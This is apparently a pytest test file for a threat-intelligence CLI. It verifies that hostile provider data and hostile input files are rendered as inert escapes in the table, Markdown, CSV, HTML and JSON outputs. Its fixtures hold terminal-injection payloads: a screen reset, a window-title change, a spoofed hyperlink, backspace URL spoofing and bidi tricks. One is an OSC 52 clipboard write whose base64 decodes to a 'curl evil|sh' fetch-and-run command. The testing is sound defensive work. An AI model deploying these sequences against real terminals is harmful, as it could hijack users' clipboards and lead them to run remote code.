"""Hostile text never drives the terminal: upstream answers and analysed files through the CLI.

The simulator serves a pulse name, malware names (which become tags), an AS owner (VirusTotal's
as_owner, AbuseIPDB's isp, IPinfo's org), a usage type and a country holding terminal commands;
every human-facing format and every stderr line must show them as escapes, never pass them on.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from typer.testing import CliRunner

from support import sim_env
from threatintel._visible import one_line, percent_encode_hidden, visible
from threatintel.cli import app
from threatintel.cli_support import endpoints_note
from threatintel.indicators import extract
from threatintel.models import Analysis, Rejected
from threatintel.providers.values import as_asn, as_country
from threatintel.reports import render
from threatintel.simulator import SimulatorServer
from threatintel.simulator.scenario import Scenario

runner = CliRunner()

#: Every trick the issue names: reset (ESC c), window title (OSC 0), clipboard (OSC 52), a
#: hyperlink (OSC 8), clear screen (CSI 2J), BEL, backspaces, C1 CSI, a bidi override and the
#: zero-width and bidi marks.
HOSTILE = (
    "\u202egnp\u200b\x1bc\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07"
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x07"
    "bank\x08\x08\x08\x08evil\x9b31m\u200c\u200d\u2060\ufeff\u061c\u200e\u2066"
)
IP = "185.100.87.41"
NOT_A_COUNTRY = "\x1b]0;NL\x07"
#: How the start of HOSTILE reads in each format (Markdown escapes the backslash and bracket).
SHOWN = {
    "table": "\\u202egnp\\u200b\\x1bc\\x1b]0;owned\\x07",
    "csv": "\\u202egnp\\u200b\\x1bc\\x1b]0;owned\\x07",
    "markdown": "\\\\u202egnp\\\\u200b\\\\x1bc\\\\x1b\\]0;owned\\\\x07",
}


def hidden_chars(text: str, allowed: str = "\n") -> set[str]:
    """The characters of Unicode category C in ``text`` that the format has no use for."""
    return {ch for ch in text if unicodedata.category(ch)[0] == "C" and ch not in allowed}


@pytest.fixture
def hostile_sim(sim: SimulatorServer) -> SimulatorServer:
    """The simulator answering about IP with hostile text in every field the issue names."""
    sim.config.scenario = Scenario.from_dict(
        {
            "indicators": {
                IP: {
                    "truth": "malicious",
                    "ipinfo": {"org": f"AS64500 {HOSTILE}", "country": NOT_A_COUNTRY},
                    "abuseipdb": {"confidence": 90, "usage": HOSTILE},
                    "otx": {
                        "pulses": [
                            {"name": HOSTILE, "adversary": HOSTILE, "malware": [HOSTILE]},
                        ]
                    },
                }
            }
        }
    )
    return sim


# --- the cleaning step -----------------------------------------------------------------------


def test_visible_shows_every_hidden_character_as_its_escape() -> None:
    """Controls, bidi and zero-width characters become their Python escape; nothing is dropped."""
    assert visible("a\x1bc\x07\x08\x9b\x7f") == "a\\x1bc\\x07\\x08\\x9b\\x7f"
    assert visible("\u202e\u2066\u200e\u200f\u061c") == "\\u202e\\u2066\\u200e\\u200f\\u061c"
    assert visible("\u200b\u200c\u200d\u2060\ufeff") == "\\u200b\\u200c\\u200d\\u2060\\ufeff"
    assert visible("\U000e0041\ue000\u2028\r") == "\\U000e0041\\ue000\\u2028\\r"
    assert visible("\ud800") == "\\ud800"  # a lone surrogate would not even encode


def test_visible_handles_tab_and_newline_per_format() -> None:
    """One line turns tab and newline into spaces; lines=True keeps them; text is otherwise kept."""
    assert visible("a\tb\nc") == "a b c"
    assert visible("a\tb\nc\x1b", lines=True) == "a\tb\nc\\x1b"
    assert visible("Ünïcode 中文 עברית ok") == "Ünïcode 中文 עברית ok"
    assert one_line("  a \n\t b\x07  ") == "a b\\x07"
    assert one_line("x" * 10, 5) == "xxxx…"


def test_percent_encode_hidden_keeps_urls_inert() -> None:
    """A URL part keeps hidden characters only as UTF-8 percent-escapes."""
    assert percent_encode_hidden("/a\x08\x1bc/\u202e") == "/a%08%1Bc/%E2%80%AE"
    assert percent_encode_hidden("/ok/é") == "/ok/é"


def test_extract_percent_encodes_controls_in_url_paths() -> None:
    """Backspaces and ESC in a URL path are kept percent-encoded, so the URL shows what it is."""
    text = "see http://evil-site.com/a" + "\x08" * 22 + "good-bank.com/login\x1bc and more"
    (url,) = extract(text).indicators
    assert url.value == "http://evil-site.com/a" + "%08" * 22 + "good-bank.com/login%1Bc"
    assert not hidden_chars(url.value)


@pytest.mark.parametrize("value", ["NLD", "N", "\x1b]", "Ñl", "N1", "", None, 12])
def test_a_country_must_be_two_ascii_letters(value: object) -> None:
    """Anything but an ISO 3166 alpha-2 shape is no country; a lower-case code is upper-cased."""
    assert as_country(value) is None
    assert as_country("nl") == "NL"


@pytest.mark.parametrize("value", ["AS²", "١٢", "-1", -1, 2**32, True, "AS", "AS1 x", 1.5])
def test_an_asn_must_be_a_32_bit_number(value: object) -> None:
    """An AS number is an int or ASCII digits (with or without AS) in 0..2³²-1, else none."""
    assert as_asn(value) is None
    assert as_asn("AS64500") == as_asn("64500") == as_asn(64500) == 64500


# --- the CLI, every human-facing format ------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
def test_hostile_text_is_shown_never_obeyed(hostile_sim: SimulatorServer, fmt: str) -> None:
    """No control, bidi or zero-width character reaches stdout or stderr; the escapes show."""
    wide = ["--wide"] if fmt == "table" else []  # every reason, not just the top one
    result = runner.invoke(
        app, ["analyze", IP, "--format", fmt, *wide], env=sim_env(hostile_sim, COLUMNS="200")
    )
    assert result.exit_code == 0, result.output
    assert not hidden_chars(result.stdout), sorted(hidden_chars(result.stdout))
    assert not hidden_chars(result.stderr)
    assert SHOWN[fmt] in result.stdout


def test_hostile_upstream_text_in_the_html_report(
    hostile_sim: SimulatorServer, tmp_path: Path
) -> None:
    """The HTML report carries the escapes, in the page and in the graph data, and no control."""
    target = tmp_path / "report.html"
    result = runner.invoke(
        app, ["analyze", IP, "--format", "html", "-o", str(target)], env=sim_env(hostile_sim)
    )
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert not hidden_chars(page), sorted(hidden_chars(page))
    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in page
    assert "\\u202egnp\\u200b\\x1bc" in page


def test_json_keeps_upstream_values_exact(hostile_sim: SimulatorServer) -> None:
    """JSON is for machines: the pulse name arrives exactly as the source sent it."""
    result = runner.invoke(app, ["analyze", IP, "--format", "json"], env=sim_env(hostile_sim))
    assert result.exit_code == 0, result.output
    (enrichment,) = json.loads(result.stdout)["enrichments"]
    names = [p["name"] for p in enrichment["sources"]["otx"]["pulses"]]
    assert names == [HOSTILE]


def test_a_country_that_is_not_two_letters_is_not_shown(hostile_sim: SimulatorServer) -> None:
    """A country field that is not an ISO 3166 alpha-2 code is dropped at the parse seam."""
    result = runner.invoke(app, ["analyze", IP, "--format", "json"], env=sim_env(hostile_sim))
    assert result.exit_code == 0, result.output
    (enrichment,) = json.loads(result.stdout)["enrichments"]
    geos = [r["geo"] for r in enrichment["sources"].values() if r["geo"] is not None]
    assert geos  # VirusTotal, OTX and IPinfo each answered with a geo block
    assert all(geo["country"] is None for geo in geos)
    assert all(geo["asn"] == 64500 for geo in geos)
    table = runner.invoke(app, ["analyze", IP], env=sim_env(hostile_sim, COLUMNS="200"))
    assert "NL" not in table.stdout and "IPinfo AS64500" in table.stdout


def test_the_table_in_a_real_process(hostile_sim: SimulatorServer) -> None:
    """The installed entry point, stdout and stderr as a terminal would receive them."""
    env = {k: v for k, v in os.environ.items() if not k.endswith(("_API_KEY", "_BASE_URL"))}
    done = subprocess.run(
        [sys.executable, "-m", "threatintel", "analyze", IP, "--wide"],
        env=env | sim_env(hostile_sim, COLUMNS="120"),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    stdout, stderr = done.stdout.decode(), done.stderr.decode()
    assert not hidden_chars(stdout) and not hidden_chars(stderr)
    assert "\\x1b" in stdout


# --- hostile files: extract, skipped lines, errors -------------------------------------------

HOSTILE_FILE = (
    "c2 http://evil-site.com/a" + "\x08" * 22 + "good-bank.com/login\n"
    "reset http://evil.example/x\x1bc\x1b]0;owned\x07 here\n"
    "bad http://bad\x1b[2Jhost.example/ and 999.1.2.3\n"
)


def test_extract_on_a_hostile_file(tmp_path: Path) -> None:
    """extract prints URLs percent-encoded and quotes skipped candidates as escapes."""
    source = tmp_path / "hostile.txt"
    source.write_text(HOSTILE_FILE, encoding="utf-8")
    result = runner.invoke(app, ["extract", str(source)])
    assert result.exit_code == 0, result.output
    assert not hidden_chars(result.stdout, "\n\t"), sorted(hidden_chars(result.stdout))
    assert not hidden_chars(result.stderr)
    assert "url\thttp://evil-site.com/a%08%08" in result.stdout
    assert "url\thttp://evil.example/x%1Bc%1B" in result.stdout
    assert "skipped http://bad\\x1b" in result.stderr


def test_error_lines_quote_rejected_candidates_visibly(tmp_path: Path) -> None:
    """The fail() path that lists rejected candidates shows their controls as escapes."""
    source = tmp_path / "only-bad.txt"
    source.write_text("bad http://bad\x1b]52;c;aGk=\x07x/\n", encoding="utf-8")
    for args in (["extract", str(source)], ["analyze", "-f", str(source)]):
        result = runner.invoke(app, args)
        assert result.exit_code == 2, result.output
        assert not hidden_chars(result.stderr), (args, sorted(hidden_chars(result.stderr)))
        assert "http://bad\\x1b" in result.stderr and "no indicators found" in result.stderr
    given = runner.invoke(app, ["analyze", "evil\x1b]0;owned\x07.com"])
    assert given.exit_code == 2, given.output
    assert not hidden_chars(given.stderr)
    assert "evil\\x1b]0;owned\\x07.com" in given.stderr


def test_the_endpoints_note_shows_hidden_characters_as_escapes() -> None:
    """The note naming a custom endpoint quotes its host visibly, whatever handed it over."""
    line = endpoints_note({"VIRUSTOTAL_BASE_URL": "https://ev\x1bcil.example/api"})
    assert not hidden_chars(line)
    assert "https://ev\\x1bcil.example" in line


def test_json_documents_escape_hidden_characters_and_keep_values() -> None:
    """JSON reports write hidden characters as JSON escapes: inert on a terminal, same values."""
    value = "pulse\x1b]52;c;ZXZpbA==\x07\u202eexe.pdf\u200b\x85\U000e0041"
    analysis = Analysis(rejected=[Rejected(candidate=value, reason="r\x1bc")])
    for fmt in ("json", "jsonl", "stix", "misp"):
        text = render(analysis, fmt, include_private=True)
        assert all(ch.isprintable() or ch == "\n" for ch in text), fmt
    document = render(analysis, "json")
    assert json.loads(document)["rejected"][0]["candidate"] == value
    assert "\\u202e" in document and "\\udb40\\udc41" in document
